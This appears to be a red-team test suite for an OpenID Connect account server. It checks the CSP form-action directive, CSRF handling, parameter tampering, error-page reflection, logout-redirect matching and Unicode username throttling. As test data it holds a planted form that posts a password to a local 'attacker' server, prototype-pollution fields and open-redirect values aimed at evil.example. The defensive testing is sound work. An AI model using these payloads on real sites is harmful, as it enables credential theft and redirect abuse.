/**
 * The red team's second web pass (2026-12-04): an outsider's attack suite over every page and form,
 * black box, in Chromium and by raw HTTP. The first pass (redteam-web) walked markup through every
 * value, the CSP against an injected script, cross-site forms, framing and our return parameters;
 * web-surfaces, outsider-attacks and redteam-sessions pinned headers, cookies, caching, fixation and
 * header injection. Kept here: what a form that got into a page can send off-site (form-action:
 * found), and what held: every state change by the wrong method or body, values sent twice or as
 * arrays, what error pages reflect, and post-logout URIs a near miss away from a registered one.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { Agent, type Page } from '../helpers/agent.js';
import { launchChromium, watchCsp } from '../helpers/browser.js';
import { fakeUpstreamOf } from '../helpers/fake-upstream.js';
import { startServer, type TestServer } from '../helpers/server.js';
import { signInSteps } from '../helpers/sign-in.js';

const PASSWORD = 'a perfectly fine password';
const REDIRECT = 'https://app.example.test/callback';
const SIGNED_OUT = 'https://app.example.test/signed-out';
const CHALLENGE = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM';

describe('red team, second web pass: an attack suite over every page and form (Chromium and raw HTTP)', function () {
  this.timeout(120_000);
  let server: TestServer;
  let browser: Browser;
  /** Another site: records every request it is sent (a form's post among them). */
  let attacker: Server;
  let attackerOrigin = '';
  const received: string[] = [];
  let fake: Awaited<ReturnType<typeof fakeUpstreamOf>>;

  before(async () => {
    server = await startServer({
      // A username pauses after 3 failures; the address's own limit is out of the way.
      // (The fake upstream listens on loopback.)
      env: { ACCOUNTS_THROTTLE_MAX_FAILURES: '3', ACCOUNTS_THROTTLE_MAX_FAILURES_PER_IP: '1000', OUTBOUND_ALLOW_PRIVATE_NETWORKS: 'true' },
      clients: [
        { client_id: 'app', client_name: 'Plain App', token_endpoint_auth_method: 'none', redirect_uris: [REDIRECT], post_logout_redirect_uris: [SIGNED_OUT] },
        { client_id: 'tv', client_name: 'TV', application_type: 'native', token_endpoint_auth_method: 'none', grant_types: ['urn:ietf:params:oauth:grant-type:device_code'], response_types: [], redirect_uris: [] },
      ],
    });
    fake = await fakeUpstreamOf(server, 'fake-upstream-secret-with-plenty-of-entropy-0123');
    await server.accounts.create('vic', PASSWORD, { name: 'Vic' });
    await server.accounts.create('zoë', PASSWORD);
    attacker = createServer((request, response) => {
      received.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>got it</title>');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
    attacker?.close();
    await fake?.close();
    await server?.stop();
  });

  /** vic signed in to the account page in a fresh agent (no browser). */
  async function signedIn(): Promise<{ agent: Agent; page: Page; csrf: string }> {
    const agent = new Agent();
    const page = await signInSteps(agent, await agent.follow(`${server.issuer}/account`), { username: 'vic', password: PASSWORD, login: 'required', consent: 'stop' });
    assert.equal(page.url, `${server.issuer}/account`);
    return { agent, page, csrf: /name="csrf" value="([^"]+)"/.exec(page.html)![1]! };
  }

  it("a form that got into a page anyway cannot post what the browser fills in to another site: on the home, account, developer and error pages Chromium refuses the submission (CSP form-action 'self'), which it sent before; the sign-in flow still reaches the app (OWASP ASVS V14.4.3, CSP Level 3 form-action)", async () => {
    const context = await browser.newContext();
    const csp: string[] = [];
    const page = watchCsp(await context.newPage(), csp);
    // Every page of ours comes back with a form added that posts a field to the attacker, under the
    // headers it was served with (no script: markup alone, which script-src does not stop); the
    // control (?control) without its Content-Security-Policy shows the form is sent.
    await context.route(`${server.issuer}/**`, async (route) => {
      const response = await route.fetch({ maxRedirects: 0 });
      if (!(response.headers()['content-type'] ?? '').startsWith('text/html')) return route.fulfill({ response });
      const form = `<form method="post" action="${attackerOrigin}/steal"><input name="password" value="filled-in"><button id="planted">Continue</button></form>`;
      const body = (await response.text()).replace('</main>', `${form}</main>`);
      const control = new URL(route.request().url()).searchParams.has('control');
      const headers = Object.fromEntries(Object.entries(response.headers()).filter(([name]) => !(control && name === 'content-security-policy')));
      await route.fulfill({ response, body, headers });
    });
    const submit = async (url: string) => {
      await page.goto(url);
      await page.waitForSelector('#planted');
      // A sent submission lands on the attacker's page; a refused one navigates nowhere, and Chromium says why.
      const settled = Promise.race([page.waitForURL(`${attackerOrigin}/steal`), page.waitForEvent('console', (message) => /form-action/.test(message.text()))]);
      // A click of the person's (from the page, not playwright's, which waits for a navigation a refused form never starts).
      await page.evaluate(`document.getElementById('planted').click()`);
      await settled;
    };
    await submit(`${server.issuer}/?control`);
    assert.equal(page.url(), `${attackerOrigin}/steal`, 'without the policy, the planted form is sent');
    assert.deepEqual(received.splice(0), ['POST /steal']);

    const refused = async (where: string, before: number) => {
      assert.ok(page.url().startsWith(server.issuer), `${where}: the planted form took the browser to ${page.url()}`);
      assert.deepEqual(received, [], `${where}: the attacker was sent the form`);
      assert.ok(csp.slice(before).some((line) => /form-action/.test(line)), `${where}: Chromium reports the refusal: ${csp.slice(before).join('\n')}`);
    };
    // The sign-in flow's pages keep no form-action (their forms' redirects go on to the app, and from
    // its redirect URI wherever the app sends the browser, which Chromium checks too): signing in
    // and allowing still take the browser to the app under the new policy.
    const authorize = `${server.issuer}/auth?${new URLSearchParams({ client_id: 'app', response_type: 'code', scope: 'openid', redirect_uri: REDIRECT, code_challenge: CHALLENGE, code_challenge_method: 'S256' })}`;
    await page.goto(authorize);
    await page.fill('#username', 'vic');
    await page.fill('#password', PASSWORD);
    await page.click('button:has-text("Sign in")');
    await page.waitForSelector('button:has-text("Allow")');
    // The redirect URI is not on the network: the request for it is the end of the flow.
    // Its failure's error page is awaited, so that it cannot land after the next goto began.
    await Promise.all([
      page.waitForEvent('framenavigated', (frame) => frame === page.mainFrame() && frame.url().startsWith('chrome-error:')),
      page.waitForRequest((request) => request.url().startsWith(`${REDIRECT}?code=`)),
      page.click('button:has-text("Allow")'),
    ]);
    for (const path of ['/', '/account', '/developer', '/developer/callback?error=access_denied', '/no-such-page', '/account/callback?error=access_denied']) {
      const before = csp.length;
      await submit(`${server.issuer}${path}`);
      await refused(path, before);
    }
    await context.close();
  });

  it("the flow's pages keep none, as their forms lead on off-site: a device's request naming an upstream, confirmed at /device in Chromium, goes straight on to that upstream's sign-in (RFC 8628 §3.3)", async () => {
    const context = await browser.newContext();
    const csp: string[] = [];
    const page = watchCsp(await context.newPage(), csp);
    const started = await fetch(`${server.issuer}/device/auth`, { method: 'POST', body: new URLSearchParams({ client_id: 'tv', scope: 'openid', upstream: 'fake' }) });
    const { verification_uri_complete: complete } = (await started.json()) as { verification_uri_complete: string };
    await page.goto(complete);
    await page.click('button:has-text("Continue")');
    await page.waitForSelector('button:has-text("Deny")');
    // The fake upstream answers at once; the confirmation's chain of redirects reaches it.
    await Promise.all([page.waitForRequest((request) => request.url().startsWith(`${fake.state.issuer}/authorize`)), page.click('button:has-text("Continue")')]);
    assert.deepEqual(csp.filter((line) => /form-action/.test(line)), []);
    await context.close();
  });

  it('every state change refuses the wrong method, body or shape, and changes nothing: GET and HEAD of each action (405), a JSON or text/plain body, the form token sent twice or as an array (403), fields as arrays or objects, `__proto__`, a value of 15,000 characters (a page, never a 500) (ASVS V13.1, CWE-352)', async () => {
    const { agent, csrf } = await signedIn();
    const actions = [
      '/account/password', '/account/password/set', '/account/sessions/sign-out', '/account/recovery-codes', '/account/authenticator/start', '/account/authenticator/confirm',
      '/account/authenticator/remove', '/account/apps/withdraw', '/account/passkeys/add', '/account/passkeys/remove', '/account/links/remove', '/developer/apps',
    ];
    for (const action of actions) {
      for (const method of ['GET', 'HEAD']) {
        const answer = await agent.request(`${server.issuer}${action}?csrf=${encodeURIComponent(csrf)}&current_password=${encodeURIComponent(PASSWORD)}&new_password=x`, { method });
        await answer.arrayBuffer();
        assert.equal(answer.status, 405, `${method} ${action}`);
        assert.match(answer.headers.get('allow') ?? '', /POST/, `${method} ${action}`);
      }
    }
    const post = async (action: string, contentType: string, body: string) => {
      const answer = await agent.request(`${server.issuer}${action}`, { method: 'POST', headers: { 'content-type': contentType }, body });
      const html = await answer.text();
      assert.equal(answer.headers.get('cache-control'), 'no-store', `${action} ${body.slice(0, 40)}`);
      assert.doesNotMatch(html, /\bat [\w.<>]+ \(|node:internal|Error:/, `${action}: no stack trace`);
      return answer.status;
    };
    const form = 'application/x-www-form-urlencoded';
    const change = { current_password: PASSWORD, new_password: 'the attacker chose this one', confirm_password: 'the attacker chose this one' };
    assert.equal(await post('/account/password', 'application/json', JSON.stringify({ csrf, ...change })), 403);
    assert.equal(await post('/account/password', 'text/plain', new URLSearchParams({ csrf, ...change }).toString()), 403);
    assert.equal(await post('/account/password', form, `csrf=${csrf}&csrf=${csrf}&${new URLSearchParams(change)}`), 403);
    assert.equal(await post('/account/password', form, `csrf[]=${csrf}&${new URLSearchParams(change)}`), 403);
    assert.equal(await post('/account/passkeys/add', 'text/plain', JSON.stringify({ csrf })), 403);
    assert.equal(await post('/account/password', form, `csrf=${csrf}&current_password[a]=x&new_password[]=y&confirm_password[]=y`), 400);
    assert.equal(await post('/account/password', form, `csrf=${csrf}&__proto__[csrf]=x&constructor[prototype][admin]=1`), 400);
    assert.equal(await post('/account/password', form, `csrf=${csrf}&current_password=${'a'.repeat(15_000)}&new_password=b&confirm_password=b`), 400);
    assert.equal(await post('/account/sessions/sign-out', form, `csrf=${csrf}&session=a&session=b`), 404);
    assert.equal(await post('/account/apps/withdraw', form, `csrf=${csrf}&client=app&client=app`), 404);
    assert.equal(await post('/developer/apps', form, `csrf=${csrf}&name[]=x&type=web&redirect_uris=https://dev.example.test/cb`), 403, 'the developer page has its own token');
    assert.ok(await server.accounts.verify('vic', PASSWORD), 'the password is unchanged');
    assert.equal((await agent.request(`${server.issuer}/account`)).status, 200, 'still signed in');
  });

  it('values sent twice or as arrays on every page that reads the query are a page or a protocol error, never a 500 or a redirect off-site: the account, developer and device pages, sign-in and callbacks, sign-out, the authorization endpoint (RFC 6749 §3.1, OpenID Connect Core §3.1.2.2)', async () => {
    const { agent } = await signedIn();
    const issuer = new URL(server.issuer);
    const authorize = new URLSearchParams({ client_id: 'app', response_type: 'code', scope: 'openid', redirect_uri: REDIRECT, code_challenge: CHALLENGE, code_challenge_method: 'S256' });
    for (const path of [
      '/account?done=a&done=b', '/account?done[]=password.changed', '/developer?done=a&done=b', '/device?user_code=a&user_code=b', '/device?user_code[]=a', '/device?user_code[a]=b',
      '/account/sign-in?again=password&again=//evil.example', '/developer/sign-in?again[]=apps', '/account/callback?state=a.password&state=b.apps&code=x&code=y', '/developer/callback?error=a&error=b',
      '/upstream/corp/signed-out?state=a&state=b', `/session/end?client_id=app&client_id=app&post_logout_redirect_uri=${encodeURIComponent(SIGNED_OUT)}`,
      `/session/end?post_logout_redirect_uri=${encodeURIComponent(SIGNED_OUT)}&post_logout_redirect_uri=https%3A%2F%2Fevil.example%2F`,
      `/auth?${authorize}&client_id=app`, `/auth?${authorize}&redirect_uri=https%3A%2F%2Fevil.example%2F`, `/auth?${authorize}&login_hint=a&login_hint=b`, `/auth?${authorize}&prompt[]=none`,
      '/interaction/x?x=1&x=2', '/?a=1&a=2',
    ]) {
      const answer = await agent.request(`${server.issuer}${path}`);
      const html = await answer.text();
      assert.ok(answer.status < 500, `${path}: ${answer.status}`);
      assert.doesNotMatch(html, /node:internal|\bat [\w.<>]+ \(/, `${path}: no stack trace`);
      const location = answer.headers.get('location');
      if (location) {
        const to = new URL(location, server.issuer);
        assert.ok(to.origin === issuer.origin || to.href.startsWith(REDIRECT), `${path} → ${location}`);
      }
    }
  });

  it("error pages say only the service's own words: no parameter's text is reflected as an error description (content injection), and a post-logout URI a near miss away from a registered one (trailing slash, case, query, fragment, dot segments, default port, trailing dot) is refused with nothing ended (OpenID RP-Initiated Logout §3, CWE-601)", async () => {
    const text = 'CALL SUPPORT AT +1-800-555-0100';
    const base = { client_id: 'app', response_type: 'code', scope: 'openid', redirect_uri: REDIRECT, code_challenge: CHALLENGE, code_challenge_method: 'S256' };
    for (const name of ['resource', 'claims', 'max_age', 'request_uri', 'request', 'prompt', 'acr_values', 'response_mode', 'id_token_hint', 'display', 'dpop_jkt', 'authorization_details', 'ui_locales', 'claims_locales']) {
      const answer = await fetch(`${server.issuer}/auth?${new URLSearchParams({ ...base, [name]: text })}`, { redirect: 'manual', headers: { accept: 'text/html' } });
      const reflected = `${answer.headers.get('location') ?? ''} ${await answer.text()}`;
      assert.doesNotMatch(decodeURIComponent(reflected.replace(/\+/g, ' ')), /CALL SUPPORT/, `${name} is reflected`);
    }
    for (const path of [
      `/auth?client_id=${encodeURIComponent(text)}&response_type=code`, `/session/end?client_id=${encodeURIComponent(text)}`, `/session/end?id_token_hint=${encodeURIComponent(text)}`,
      // Our own pages: an upstream no one configured, named by the request (it was echoed in the page's details).
      `/auth?${new URLSearchParams({ ...base, upstream: text })}`,
    ]) {
      const page = await new Agent().follow(`${server.issuer}${path}`, {}, REDIRECT);
      assert.ok(page.status >= 400 || page.url.startsWith(REDIRECT), `${path}: ${page.status} ${page.url}`);
      const said = page.url.startsWith(REDIRECT) ? (new URL(page.url).searchParams.get('error_description') ?? '') : page.html;
      assert.doesNotMatch(said, /CALL SUPPORT/, path);
    }
    const { agent } = await signedIn();
    for (const near of [
      `${SIGNED_OUT}/`, SIGNED_OUT.replace('app.', 'APP.'), `${SIGNED_OUT}?x=1`, `${SIGNED_OUT}#x`, `${SIGNED_OUT}/../x`, SIGNED_OUT.replace('.test/', '.test:443/'),
      SIGNED_OUT.replace('signed-out', 'Signed-out'), `${SIGNED_OUT}%2F`, SIGNED_OUT.replace('.test/', '.test./'),
    ]) {
      const answer = await agent.request(`${server.issuer}/session/end?${new URLSearchParams({ client_id: 'app', post_logout_redirect_uri: near })}`);
      assert.equal(answer.status, 400, near);
      assert.match(await answer.text(), /Not signed out/, near);
    }
    assert.equal((await agent.request(`${server.issuer}/account`)).status, 200, 'still signed in');
  });

  it('a username is paused under every spelling that signs in as it: wrong passwords sent as ZOË, Zoe + combining diaeresis and full-width ｚｏë count together, and the right one under any spelling is then paused too (PRECIS RFC 8265, ASVS V6.3.1)', async () => {
    const authorize = `${server.issuer}/auth?${new URLSearchParams({ client_id: 'app', response_type: 'code', scope: 'openid', redirect_uri: REDIRECT, code_challenge: CHALLENGE, code_challenge_method: 'S256' })}`;
    const tryPassword = async (username: string, password: string) => {
      const agent = new Agent();
      const page = await agent.follow(authorize, {}, REDIRECT);
      return agent.submit(page, '/login', { username, password }, REDIRECT);
    };
    const answers = [];
    for (const username of ['ZOË', 'Zoe\u0308', '\uff5a\uff4fë']) answers.push((await tryPassword(username, 'not the password at all')).status);
    assert.deepEqual(answers, [401, 401, 429], 'the third failure, under a third spelling, pauses the username');
    for (const username of ['zoë', 'ZOE\u0308']) {
      const right = await tryPassword(username, PASSWORD);
      assert.equal(right.status, 429, `${username}: the right password is paused too`);
      assert.match(right.html, /sign-in is paused/);
    }
  });
});
